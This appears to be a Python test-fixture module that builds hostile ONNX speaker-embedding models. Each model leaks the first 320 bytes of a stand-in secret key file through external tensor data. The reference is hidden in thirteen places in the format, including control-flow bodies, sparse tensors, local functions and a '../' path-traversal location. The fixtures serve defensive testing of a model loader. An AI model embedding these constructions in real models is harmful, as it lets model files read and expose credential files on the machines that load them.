"""Hostile ONNX models for the tests: WeSpeaker-shaped graphs (input ``feats`` (B, T, 80),
output ``embs`` (B, 80)) whose output is a tensor read from a file outside the model,
hidden in each place of the format where a tensor can sit. Built with the ``onnx`` package
(the real serializer), so they are what an attacker would write."""

from __future__ import annotations

from collections.abc import Callable

import numpy as np
import onnx
from onnx import TensorProto, helper

SECRET_NAME = "key_admin.txt"
BINS = 80
SECRET_BYTES = BINS * 4
"""The model reads 80 float32 values from the file: its first 320 bytes."""


def secret_text() -> bytes:
    """320 bytes of printable text, as an API key file would hold (every 4 bytes of printable
    ASCII read as float32 give a finite number)."""
    key = b"speakerdb-admin-key-" + bytes(
        np.random.default_rng(16).integers(97, 123, SECRET_BYTES - 20).tolist()
    )
    assert len(key) == SECRET_BYTES
    return key


def external_tensor(name: str, location: str = SECRET_NAME, *, encoding: str = "standard"):
    """A float32 (80,) tensor whose bytes are the first 320 bytes of ``location``."""
    tensor = TensorProto()
    tensor.name = name
    tensor.data_type = TensorProto.FLOAT
    tensor.dims.extend([BINS])
    if encoding == "standard":
        tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", str(SECRET_BYTES))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def _value(name: str, shape: list) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, shape)


def _model(nodes, initializers=(), *, sparse=(), functions=(), opsets=(("", 17),), **kw):
    """feats -> embs = ReduceMean(feats) * 0 + c, where the nodes given compute c (80,)."""
    nodes = [
        *nodes,
        helper.make_node("ReduceMean", ["feats"], ["m"], axes=[1], keepdims=0),
        helper.make_node("Mul", ["m", "zero"], ["z"]),
        helper.make_node("Add", ["z", "c"], ["embs"]),
    ]
    zero = helper.make_tensor("zero", TensorProto.FLOAT, [], [0.0])
    graph = helper.make_graph(
        nodes,
        "hostile",
        [_value("feats", ["B", "T", BINS])],
        [_value("embs", ["B", BINS])],
        initializer=[zero, *initializers],
        sparse_initializer=list(sparse),
    )
    model = helper.make_model(
        graph,
        opset_imports=[helper.make_opsetid(d, v) for d, v in opsets],
        functions=list(functions),
        **kw,
    )
    model.ir_version = 8
    return model


def _constant_graph(name: str, output: str, tensor=None) -> onnx.GraphProto:
    """A subgraph with no inputs whose one output is the external tensor."""
    tensor = tensor or external_tensor("leak")
    return helper.make_graph(
        [helper.make_node("Constant", [], [output], value=tensor)],
        name,
        [],
        [_value(output, [BINS])],
    )


def _if(output: str, branch: onnx.GraphProto) -> list[onnx.NodeProto]:
    return [
        helper.make_node(
            "Constant",
            [],
            [f"{output}_cond"],
            value=helper.make_tensor("t", TensorProto.BOOL, [], [True]),
        ),
        helper.make_node(
            "If", [f"{output}_cond"], [output], then_branch=branch, else_branch=branch
        ),
    ]


def constant_node() -> onnx.ModelProto:
    """The case found from outside: a Constant node's ``value`` attribute."""
    return _model([helper.make_node("Constant", [], ["c"], value=external_tensor("leak"))])


def initializer() -> onnx.ModelProto:
    return _model([helper.make_node("Identity", ["leak"], ["c"])], [external_tensor("leak")])


def sparse_initializer() -> onnx.ModelProto:
    indices = helper.make_tensor("leak_indices", TensorProto.INT64, [BINS], list(range(BINS)))
    sparse = helper.make_sparse_tensor(external_tensor("leak"), indices, [BINS])
    return _model([helper.make_node("Identity", ["leak"], ["c"])], sparse=[sparse])


def sparse_attribute() -> onnx.ModelProto:
    indices = helper.make_tensor("leak_indices", TensorProto.INT64, [BINS], list(range(BINS)))
    sparse = helper.make_sparse_tensor(external_tensor("leak"), indices, [BINS])
    return _model([helper.make_node("Constant", [], ["c"], sparse_value=sparse)])


def tensors_attribute() -> onnx.ModelProto:
    """A tensors-list attribute (no standard operator has one: onnxruntime refuses the node,
    but only after reading the model)."""
    node = helper.make_node(
        "Constant", [], ["c"], value=helper.make_tensor("k", 1, [BINS], [0] * BINS)
    )
    node.attribute.append(helper.make_attribute("extra", [external_tensor("leak")]))
    return _model([node])


def if_branch() -> onnx.ModelProto:
    return _model(_if("c", _constant_graph("branch", "leak_out")))


def nested_if(depth: int = 3) -> onnx.ModelProto:
    graph = _constant_graph("level0", "out0")
    for level in range(1, depth):
        graph = helper.make_graph(
            _if(f"out{level}", graph), f"level{level}", [], [_value(f"out{level}", [BINS])]
        )
    return _model(_if("c", graph))


def loop_body() -> onnx.ModelProto:
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Constant", [], ["leak_b"], value=external_tensor("leak")),
            helper.make_node("Add", ["v_in", "leak_b"], ["v_out"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            _value("v_in", [BINS]),
        ],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []), _value("v_out", [BINS])],
    )
    return _model(
        [helper.make_node("Loop", ["trips", "go", "v0"], ["c"], body=body)],
        [
            helper.make_tensor("trips", TensorProto.INT64, [], [1]),
            helper.make_tensor("go", TensorProto.BOOL, [], [True]),
            helper.make_tensor("v0", TensorProto.FLOAT, [BINS], [0.0] * BINS),
        ],
    )


def scan_body() -> onnx.ModelProto:
    body = helper.make_graph(
        [
            helper.make_node("Constant", [], ["leak_b"], value=external_tensor("leak")),
            helper.make_node("Add", ["s_in", "leak_b"], ["s_out"]),
            helper.make_node("Identity", ["x_in"], ["x_out"]),
        ],
        "body",
        [_value("s_in", [BINS]), _value("x_in", [1])],
        [_value("s_out", [BINS]), _value("x_out", [1])],
    )
    return _model(
        [helper.make_node("Scan", ["s0", "xs"], ["c", "ys"], body=body, num_scan_inputs=1)],
        [
            helper.make_tensor("s0", TensorProto.FLOAT, [BINS], [0.0] * BINS),
            helper.make_tensor("xs", TensorProto.FLOAT, [1, 1], [0.0]),
        ],
    )


def local_function() -> onnx.ModelProto:
    function = helper.make_function(
        "local",
        "Leak",
        [],
        ["out"],
        [helper.make_node("Constant", [], ["out"], value=external_tensor("leak"))],
        [helper.make_opsetid("", 17)],
    )
    return _model(
        [helper.make_node("Leak", [], ["c"], domain="local")],
        functions=[function],
        opsets=(("", 17), ("local", 1)),
    )


def training_graph() -> onnx.ModelProto:
    model = constant_node()
    model.graph.node[0].attribute[0].t.CopyFrom(helper.make_tensor("k", 1, [BINS], [0] * BINS))
    info = model.training_info.add()
    info.initialization.CopyFrom(_constant_graph("init", "w"))
    return model


def parent_directory() -> onnx.ModelProto:
    """``../`` in the location: the file one folder up from the working directory."""
    return _model(
        [
            helper.make_node(
                "Constant", [], ["c"], value=external_tensor("leak", f"../{SECRET_NAME}")
            )
        ]
    )


def location_only() -> onnx.ModelProto:
    """External data entries without data_location set."""
    return _model(
        [helper.make_node("Constant", [], ["c"], value=external_tensor("leak", encoding="entries"))]
    )


PLACES: dict[str, Callable[[], onnx.ModelProto]] = {
    "constant-node": constant_node,
    "initializer": initializer,
    "sparse-initializer": sparse_initializer,
    "sparse-attribute": sparse_attribute,
    "tensors-attribute": tensors_attribute,
    "if-branch": if_branch,
    "nested-if-3": nested_if,
    "loop-body": loop_body,
    "scan-body": scan_body,
    "local-function": local_function,
    "training-graph": training_graph,
    "parent-directory": parent_directory,
    "location-only": location_only,
}
